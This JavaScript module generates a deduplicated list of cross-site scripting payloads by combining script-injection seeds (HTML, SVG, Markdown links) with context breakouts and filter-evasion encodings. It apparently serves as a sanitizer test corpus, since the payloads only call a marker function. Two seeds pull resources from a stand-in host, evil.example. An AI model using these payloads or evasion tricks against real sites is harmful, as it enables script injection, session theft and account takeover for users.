// Texts that try to become script: seeds, ways out of where a text stands, and disguises, each with each.

/** What runs if one of them works. */
const FIRE = "fired()";

const SEEDS = [
  `<script>${FIRE}</script>`,
  `<script src="data:text/javascript,${FIRE}"></script>`,
  `<script type=module>${FIRE}</script>`,
  `<img src=x onerror=${FIRE}>`,
  `<image src=x onerror=${FIRE}>`,
  `<svg onload=${FIRE}>`,
  `<svg><script>${FIRE}</script></svg>`,
  `<svg><animate onbegin=${FIRE} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${FIRE}"><text y=9>k</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${FIRE}>`,
  `<body onload=${FIRE}>`,
  `<iframe src="javascript:parent.${FIRE}"></iframe>`,
  `<iframe srcdoc="<script>parent.${FIRE}</script>"></iframe>`,
  `<object data="javascript:${FIRE}"></object>`,
  `<embed src="javascript:${FIRE}">`,
  `<a href="javascript:${FIRE}">k</a>`,
  `<form action="javascript:${FIRE}"><button>k</button></form>`,
  `<input autofocus onfocus=${FIRE}>`,
  `<details open ontoggle=${FIRE}>k</details>`,
  `<video><source onerror=${FIRE}></video>`,
  `<audio src=x onerror=${FIRE}>`,
  `<style>@import "javascript:${FIRE}";</style>`,
  `<style onload=${FIRE}></style>`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${FIRE}">`,
  `<base href="//evil.example/">`,
  `<template><script>${FIRE}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${FIRE}>">`,
  `<p style="background:url(javascript:${FIRE})">k</p>`,
  `<x onpointerenter=${FIRE} style=position:fixed;inset:0>k</x>`,
  `<custom-part onanimationstart=${FIRE} style=animation:x>`,
  `[k](javascript:${FIRE})`,
  `[k](data:text/html,<script>${FIRE}</script>)`,
  `[k](vbscript:${FIRE})`,
  `![k](x" onerror="${FIRE})`,
  `<javascript:${FIRE}>`,
  `[k][1] [1]: javascript:${FIRE}`,
  `[k](<javascript:${FIRE}> "x\\" onclick=\\"${FIRE}")`,
];

/** Each ends what a text might stand in. */
const WAYS_OUT = [
  (p) => p,
  (p) => `">${p}`,
  (p) => `'>${p}`,
  (p) => `" onpointerenter="${FIRE}" x="${p}`,
  (p) => `</textarea>${p}`,
  (p) => `</title>${p}`,
  (p) => `</script>${p}`,
  (p) => `</style>${p}`,
  (p) => `--><!-- -->${p}`,
  (p) => `]]>${p}`,
  (p) => `</p></main>${p}`,
  (p) => `**${p}**`,
  (p) => `> ${p}`,
  (p) => `- \`${p}\``,
  (p) => `&quot;${p}`,
];

const turns = (text) => [...text].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join("");

/** Each hides what it is from a filter that looks for it. */
const DISGUISES = [
  (p) => p,
  (p) => p.replace(/<(\/?)([a-z]+)/g, (_, slash, name) => `<${slash}${turns(name)}`),
  (p) => p.replace(/<([a-z]+) /g, "<$1/"),
  (p) => p.replaceAll("javascript:", "java\tscript:"),
  (p) => p.replaceAll("javascript:", "&#106;avascript&colon;"),
  (p) => p.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (p) => p.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (p) => p.replaceAll("<", "&#x3c;").replaceAll(">", "&#x3e;"),
  (p) => p.replace(/<([a-z])/g, "<\u0000$1"),
  (p) => p.replace(/<([a-z])/g, "<\u200b$1"),
  (p) => p.replaceAll("<", "＜").replaceAll(">", "＞"),
  (p) => p.replaceAll("<", "<<").replaceAll(">", ">>"),
  (p) => p.replaceAll(">", ""),
];

/** All of them, each once. */
export const PAYLOADS = [...new Set(SEEDS.flatMap((seed) => WAYS_OUT.flatMap((out) => DISGUISES.map((hide) => hide(out(seed))))))];
